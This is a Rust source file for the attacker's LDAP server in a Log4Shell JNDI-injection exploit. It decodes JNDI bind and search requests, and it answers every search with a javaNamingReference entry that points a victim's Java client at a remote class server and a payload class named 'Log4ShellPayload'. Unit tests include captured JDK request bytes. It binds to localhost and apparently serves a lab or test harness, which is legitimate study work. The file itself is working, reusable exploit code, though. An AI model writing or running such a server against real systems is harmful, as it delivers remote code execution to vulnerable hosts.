//! The attacker's LDAP server: answers any search with a javaNamingReference entry whose
//! javaCodeBase points at the class server and whose javaFactory names the payload class.
//!
//! Only the LDAPv3 messages a JNDI client sends for `InitialContext.lookup` are understood
//! (RFC 4511): bind, search, unbind, abandon. Everything else is recorded and ignored.

use std::net::SocketAddr;
use std::sync::Arc;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

use crate::ber::{self, BerError, Tlv, tag};
use crate::journal::{Event, Journal};

/// LDAP application tags (RFC 4511 section 4.2 onwards).
mod op {
    pub const BIND_REQUEST: u8 = 0x60;
    pub const BIND_RESPONSE: u8 = 0x61;
    pub const UNBIND_REQUEST: u8 = 0x42;
    pub const SEARCH_REQUEST: u8 = 0x63;
    pub const SEARCH_RESULT_ENTRY: u8 = 0x64;
    pub const SEARCH_RESULT_DONE: u8 = 0x65;
    pub const ABANDON_REQUEST: u8 = 0x50;
}

/// A request the server understood.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Request {
    /// BindRequest: protocol version and bind DN (JNDI binds anonymously: empty DN).
    Bind {
        /// Protocol version (3).
        version: i64,
        /// The bind DN.
        name: String,
    },
    /// SearchRequest: what JNDI asks when it looks a name up.
    Search {
        /// The base DN: the path of the `ldap://host:port/<path>` URL.
        base: String,
        /// Search scope (0 = base object).
        scope: i64,
        /// Requested attributes (empty = all).
        attributes: Vec<String>,
    },
    /// UnbindRequest.
    Unbind,
    /// AbandonRequest.
    Abandon,
    /// Any other operation, by tag.
    Other(u8),
}

/// One LDAPMessage from the client.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Message {
    /// The messageID the response must echo.
    pub id: i64,
    /// The operation.
    pub request: Request,
}

fn utf8(tlv: Tlv<'_>) -> String {
    String::from_utf8_lossy(tlv.value).into_owned()
}

/// Decodes one LDAPMessage from the start of `input`; returns it and its length in bytes.
pub fn decode_message(input: &[u8]) -> Result<(Message, usize), BerError> {
    let (outer, used) = ber::decode(input)?;
    let mut fields = outer.expect(tag::SEQUENCE)?.children();
    let id = fields.next_tlv()?.expect(tag::INTEGER)?.integer()?;
    let body = fields.next_tlv()?;
    let request = match body.tag {
        op::BIND_REQUEST => {
            let mut f = body.children();
            let version = f.next_tlv()?.expect(tag::INTEGER)?.integer()?;
            let name = utf8(f.next_tlv()?.expect(tag::OCTET_STRING)?);
            Request::Bind { version, name }
        }
        op::SEARCH_REQUEST => {
            let mut f = body.children();
            let base = utf8(f.next_tlv()?.expect(tag::OCTET_STRING)?);
            let scope = f.next_tlv()?.expect(tag::ENUMERATED)?.integer()?;
            f.next_tlv()?.expect(tag::ENUMERATED)?; // derefAliases
            f.next_tlv()?.expect(tag::INTEGER)?; // sizeLimit
            f.next_tlv()?.expect(tag::INTEGER)?; // timeLimit
            f.next_tlv()?.expect(tag::BOOLEAN)?; // typesOnly
            f.next_tlv()?; // filter: any of its CHOICE forms
            let mut attrs = f.next_tlv()?.expect(tag::SEQUENCE)?.children();
            let mut attributes = Vec::new();
            while !attrs.is_empty() {
                attributes.push(utf8(attrs.next_tlv()?.expect(tag::OCTET_STRING)?));
            }
            Request::Search {
                base,
                scope,
                attributes,
            }
        }
        op::UNBIND_REQUEST => Request::Unbind,
        op::ABANDON_REQUEST => Request::Abandon,
        other => Request::Other(other),
    };
    Ok((Message { id, request }, used))
}

fn message(id: i64, body: Vec<u8>) -> Vec<u8> {
    ber::constructed(tag::SEQUENCE, &[ber::integer(tag::INTEGER, id), body])
}

/// LDAPResult with resultCode success and empty matchedDN / diagnosticMessage.
fn success(op_tag: u8) -> Vec<u8> {
    ber::constructed(
        op_tag,
        &[
            ber::integer(tag::ENUMERATED, 0),
            ber::tlv(tag::OCTET_STRING, b""),
            ber::tlv(tag::OCTET_STRING, b""),
        ],
    )
}

/// BindResponse(success).
pub fn bind_response(id: i64) -> Vec<u8> {
    message(id, success(op::BIND_RESPONSE))
}

/// SearchResultDone(success).
pub fn search_done(id: i64) -> Vec<u8> {
    message(id, success(op::SEARCH_RESULT_DONE))
}

/// SearchResultEntry with the given DN and single- or multi-valued attributes.
pub fn search_entry(id: i64, dn: &str, attributes: &[(&str, &[&str])]) -> Vec<u8> {
    let attrs: Vec<Vec<u8>> = attributes
        .iter()
        .map(|(name, values)| {
            let vals: Vec<Vec<u8>> = values
                .iter()
                .map(|v| ber::tlv(tag::OCTET_STRING, v.as_bytes()))
                .collect();
            ber::constructed(
                tag::SEQUENCE,
                &[
                    ber::tlv(tag::OCTET_STRING, name.as_bytes()),
                    ber::constructed(tag::SET, &vals),
                ],
            )
        })
        .collect();
    message(
        id,
        ber::constructed(
            op::SEARCH_RESULT_ENTRY,
            &[
                ber::tlv(tag::OCTET_STRING, dn.as_bytes()),
                ber::constructed(tag::SEQUENCE, &attrs),
            ],
        ),
    )
}

/// What the referral entry says: where the class lives and which class it is.
#[derive(Debug, Clone)]
pub struct Referral {
    /// javaCodeBase: the URL of the class server, ending in '/'.
    pub codebase: String,
    /// javaFactory and javaClassName: the payload class.
    pub factory: String,
}

/// The entry a search is answered with: the JNDI "Reference" schema of RFC 2713.
pub fn referral_entry(id: i64, dn: &str, referral: &Referral) -> Vec<u8> {
    search_entry(
        id,
        dn,
        &[
            ("objectClass", &["javaNamingReference"]),
            ("javaClassName", &[referral.factory.as_str()]),
            ("javaCodeBase", &[referral.codebase.as_str()]),
            ("javaFactory", &[referral.factory.as_str()]),
        ],
    )
}

/// Binds the server to 127.0.0.1 on a free port.
pub async fn bind() -> std::io::Result<TcpListener> {
    TcpListener::bind(("127.0.0.1", 0)).await
}

/// Serves connections until the task is dropped.
pub async fn serve(listener: TcpListener, referral: Arc<Referral>, journal: Journal) {
    while let Ok((stream, peer)) = listener.accept().await {
        journal.record(Event::LdapConnection { peer });
        let (referral, journal) = (referral.clone(), journal.clone());
        tokio::spawn(async move {
            if let Err(err) = session(stream, peer, &referral, &journal).await {
                journal.record(Event::LdapError {
                    peer,
                    error: err.to_string(),
                });
            }
        });
    }
}

/// Why a client session ended badly.
#[derive(Debug, thiserror::Error)]
enum SessionError {
    #[error("i/o: {0}")]
    Io(#[from] std::io::Error),
    #[error("malformed LDAP message: {0}")]
    Ber(#[from] BerError),
}

async fn session(
    mut stream: TcpStream,
    peer: SocketAddr,
    referral: &Referral,
    journal: &Journal,
) -> Result<(), SessionError> {
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    loop {
        // Answer every complete message already buffered, then read more.
        loop {
            let (msg, used) = match decode_message(&buf) {
                Ok(v) => v,
                Err(BerError::Truncated { .. }) => break,
                Err(e) => return Err(e.into()),
            };
            let raw = buf.drain(..used).collect::<Vec<u8>>();
            journal.record(Event::LdapRequest {
                peer,
                request: msg.request.clone(),
                raw,
            });
            match msg.request {
                Request::Bind { .. } => stream.write_all(&bind_response(msg.id)).await?,
                Request::Search { base, .. } => {
                    stream
                        .write_all(&referral_entry(msg.id, &base, referral))
                        .await?;
                    stream.write_all(&search_done(msg.id)).await?;
                }
                Request::Unbind => return Ok(()),
                Request::Abandon | Request::Other(_) => {}
            }
        }
        let n = stream.read(&mut chunk).await?;
        if n == 0 {
            return Ok(());
        }
        buf.extend_from_slice(&chunk[..n]);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The anonymous LDAPv3 bind every JNDI client sends first (messageID 1, empty DN,
    /// simple authentication with an empty password).
    const ANONYMOUS_BIND: [u8; 14] = [
        0x30, 0x0c, 0x02, 0x01, 0x01, 0x60, 0x07, 0x02, 0x01, 0x03, 0x04, 0x00, 0x80, 0x00,
    ];

    /// The search the JDK 17.0.15 client sent for
    /// `ldap://127.0.0.1:<port>/Log4ShellPayload`, captured from a real run: messageID 2,
    /// base "Log4ShellPayload", scope baseObject, derefAliases always, no limits, typesOnly
    /// false, filter (objectClass=*) as a present filter, all attributes, and one control:
    /// ManageDsaIT (2.16.840.1.113730.3.4.2), which JNDI adds unless referrals are followed.
    const JDK_SEARCH: &[u8] = &[
        0x30, 0x52, 0x02, 0x01, 0x02, 0x63, 0x30, 0x04, 0x10, b'L', b'o', b'g', b'4', b'S', b'h',
        b'e', b'l', b'l', b'P', b'a', b'y', b'l', b'o', b'a', b'd', 0x0a, 0x01, 0x00, 0x0a, 0x01,
        0x03, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00, 0x01, 0x01, 0x00, 0x87, 0x0b, b'o', b'b', b'j',
        b'e', b'c', b't', b'C', b'l', b'a', b's', b's', 0x30, 0x00, 0xa0, 0x1b, 0x30, 0x19, 0x04,
        0x17, b'2', b'.', b'1', b'6', b'.', b'8', b'4', b'0', b'.', b'1', b'.', b'1', b'1', b'3',
        b'7', b'3', b'0', b'.', b'3', b'.', b'4', b'.', b'2',
    ];

    #[test]
    fn decodes_the_anonymous_bind() {
        let (msg, used) = decode_message(&ANONYMOUS_BIND).unwrap();
        assert_eq!(used, ANONYMOUS_BIND.len());
        assert_eq!(
            msg,
            Message {
                id: 1,
                request: Request::Bind {
                    version: 3,
                    name: String::new()
                }
            }
        );
    }

    #[test]
    fn decodes_the_jdk_search() {
        let (msg, used) = decode_message(JDK_SEARCH).unwrap();
        assert_eq!(used, JDK_SEARCH.len());
        assert_eq!(
            msg,
            Message {
                id: 2,
                request: Request::Search {
                    base: "Log4ShellPayload".into(),
                    scope: 0,
                    attributes: vec![]
                }
            }
        );
    }

    #[test]
    fn decodes_unbind_and_reports_partial_messages() {
        // JNDI's unbind also carries the ManageDsaIT control; a bare one is 7 bytes.
        let unbind = [0x30, 0x05, 0x02, 0x01, 0x03, 0x42, 0x00];
        let (msg, _) = decode_message(&unbind).unwrap();
        assert_eq!(msg.request, Request::Unbind);
        assert!(matches!(
            decode_message(&JDK_SEARCH[..20]),
            Err(BerError::Truncated { .. })
        ));
    }

    #[test]
    fn bind_response_is_success() {
        assert_eq!(
            bind_response(1),
            [
                0x30, 0x0c, 0x02, 0x01, 0x01, 0x61, 0x07, 0x0a, 0x01, 0x00, 0x04, 0x00, 0x04, 0x00
            ]
        );
    }

    #[test]
    fn search_done_is_success() {
        assert_eq!(
            search_done(2),
            [
                0x30, 0x0c, 0x02, 0x01, 0x02, 0x65, 0x07, 0x0a, 0x01, 0x00, 0x04, 0x00, 0x04, 0x00
            ]
        );
    }

    #[test]
    fn search_entry_encodes_attribute_sets() {
        // dn "a", objectClass: top
        let expected = [
            0x30, 0x20, 0x02, 0x01, 0x02, 0x64, 0x1b, 0x04, 0x01, b'a', 0x30, 0x16, 0x30, 0x14,
            0x04, 0x0b, b'o', b'b', b'j', b'e', b'c', b't', b'C', b'l', b'a', b's', b's', 0x31,
            0x05, 0x04, 0x03, b't', b'o', b'p',
        ];
        assert_eq!(search_entry(2, "a", &[("objectClass", &["top"])]), expected);
    }

    #[test]
    fn referral_entry_names_codebase_and_factory() {
        let referral = Referral {
            codebase: "http://127.0.0.1:8000/".into(),
            factory: "Log4ShellPayload".into(),
        };
        let bytes = referral_entry(7, "x", &referral);
        let (outer, used) = ber::decode(&bytes).unwrap();
        assert_eq!(used, bytes.len());
        let mut f = outer.children();
        assert_eq!(f.next_tlv().unwrap().integer().unwrap(), 7);
        let entry = f
            .next_tlv()
            .unwrap()
            .expect(op::SEARCH_RESULT_ENTRY)
            .unwrap();
        let mut e = entry.children();
        assert_eq!(e.next_tlv().unwrap().value, b"x");
        let mut attrs = e.next_tlv().unwrap().children();
        let mut seen = Vec::new();
        while !attrs.is_empty() {
            let mut pair = attrs.next_tlv().unwrap().children();
            let name = utf8(pair.next_tlv().unwrap());
            let value = utf8(pair.next_tlv().unwrap().children().next_tlv().unwrap());
            seen.push((name, value));
        }
        let get = |k: &str| seen.iter().find(|(n, _)| n == k).map(|(_, v)| v.as_str());
        assert_eq!(get("objectClass"), Some("javaNamingReference"));
        assert_eq!(get("javaCodeBase"), Some("http://127.0.0.1:8000/"));
        assert_eq!(get("javaFactory"), Some("Log4ShellPayload"));
        assert_eq!(get("javaClassName"), Some("Log4ShellPayload"));
    }
}
